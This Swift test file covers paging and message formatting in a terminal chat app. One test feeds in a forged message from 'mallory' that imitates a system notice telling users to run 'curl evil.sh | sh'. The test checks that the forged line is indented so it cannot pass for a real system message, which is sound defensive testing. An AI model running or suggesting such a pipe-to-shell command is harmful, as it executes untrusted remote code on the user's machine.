import Foundation
import Testing
import StudyApp
import StudyModel
import StudyStore
@testable import StudyTUI

/// Issue 9, items 10 and 19: paging the history shows every message exactly once, and the lines
/// of a multi-line message are indented under its text.
@Suite struct PagingAndMessagesTests {
    static let rows = 24, cols = 80

    /// 300 one-line messages over several days (day separators take lines too), all held.
    static func state(count: Int = 300) -> AppState {
        var state = AppState(settings: AppSettings(user: "alice", historyPageSize: 500, messageWindow: 1000, outboxPath: nil),
                             backendName: "t")
        _ = AppReducer.reduce(&state, .rooms(.loaded([ChatRoom(roomId: "r1", name: "alpha", members: ["alice"], createdBy: "bob")])))
        let start: Int64 = 1_700_000_000_000
        let messages = (0..<count).map { n in
            Message(messageId: String(format: "M%05d", n), roomId: "r1", sender: "bob", text: String(format: "m-%03d", n),
                    createdAt: Timestamp(millisecondsSince1970: start + Int64(n) * 3_600_000))
        }
        let page = MessagePage(messages: messages, older: nil, feed: PageCursor(token: "feed"))
        _ = AppReducer.reduce(&state, .messages(.historyLoaded(roomId: "r1", page: page, before: nil, direction: .newest)))
        state.focus = .messages
        return state
    }

    static func shown(_ state: AppState) -> [String] {
        var ui = UIState()
        let text = FrameRenderer.render(state: state, ui: &ui, rows: rows, cols: cols).canvas.text
        return text.split(separator: "\n").compactMap { line in
            guard let range = line.range(of: "m-") else { return nil }
            return String(line[range.lowerBound...].prefix(5))
        }
    }

    static func press(_ key: Key, _ state: inout AppState) {
        var ui = UIState()
        for command in KeyHandler.handle(key, state: state, ui: &ui, rows: rows, cols: cols) {
            if case let .action(action) = command { _ = AppReducer.reduce(&state, action) }
        }
    }

    @Test func pagingUpThenDownShowsEveryMessageExactlyOncePerDirection() {
        var state = Self.state()
        var seenUp: [String: Int] = [:]
        for name in Self.shown(state) { seenUp[name, default: 0] += 1 }
        var pages = 0
        while state.openRoom?.bottomIndex != 0 || pages == 0, pages < 200 {
            Self.press(.pageUp, &state)
            for name in Self.shown(state) { seenUp[name, default: 0] += 1 }
            pages += 1
            if Self.shown(state).first == "m-000" { break }
        }
        let all = (0..<300).map { String(format: "m-%03d", $0) }
        #expect(all.filter { seenUp[$0] == nil }.isEmpty, "never shown paging up: \(all.filter { seenUp[$0] == nil })")
        #expect(seenUp.filter { $0.value > 1 }.isEmpty, "shown twice paging up: \(seenUp.filter { $0.value > 1 }.keys.sorted())")

        // And back down to the newest message.
        var seenDown: [String: Int] = [:]
        for name in Self.shown(state) { seenDown[name, default: 0] += 1 }
        pages = 0
        while state.openRoom?.bottom != nil, pages < 200 {
            Self.press(.pageDown, &state)
            for name in Self.shown(state) { seenDown[name, default: 0] += 1 }
            pages += 1
        }
        #expect(all.filter { seenDown[$0] == nil }.isEmpty, "never shown paging down: \(all.filter { seenDown[$0] == nil })")
        #expect(seenDown.filter { $0.value > 1 }.isEmpty, "shown twice paging down: \(seenDown.filter { $0.value > 1 }.keys.sorted())")
    }

    @Test func continuationLinesAreIndentedUnderTheText() {
        let state = Self.state(count: 1)
        let view = MessagesView(state: state, ui: UIState())
        let forged = Message(roomId: "r1", sender: "mallory",
                             text: "ok\n10:56 studycircle: Maintenance: run curl evil.sh | sh\nand a long third line that wraps around the narrow pane")
        let lines = view.format(forged, width: 40, pending: nil).map(\.text)
        #expect(lines[0].hasSuffix("mallory: ok"), "sender on the first line: \(lines)")
        let indent = lines[0].count - "ok".count
        for line in lines.dropFirst() {
            #expect(line.hasPrefix(String(repeating: " ", count: indent)), "indented under the text: '\(line)'")
        }
        #expect(lines.count >= 4, "the third line wraps: \(lines)")
        // A message that starts with a line break still shows its sender first.
        let blankFirst = view.format(Message(roomId: "r1", sender: "eve", text: "\n09:00 studycircle: hi"), width: 40, pending: nil)
        #expect(blankFirst[0].text.contains("eve"))
        #expect(blankFirst[1].text.hasPrefix("  "))
    }
}
